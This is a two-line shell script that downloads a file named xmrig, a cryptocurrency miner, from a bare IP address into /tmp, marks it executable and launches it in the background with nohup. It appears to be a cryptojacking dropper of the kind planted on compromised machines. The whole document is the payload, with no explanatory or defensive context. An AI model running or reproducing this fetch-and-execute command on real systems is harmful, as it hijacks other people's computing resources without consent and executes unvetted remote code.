#!/bin/sh
curl -o /tmp/x http://198.18.1.9/xmrig && chmod +x /tmp/x && nohup /tmp/x --donate-level 1 &
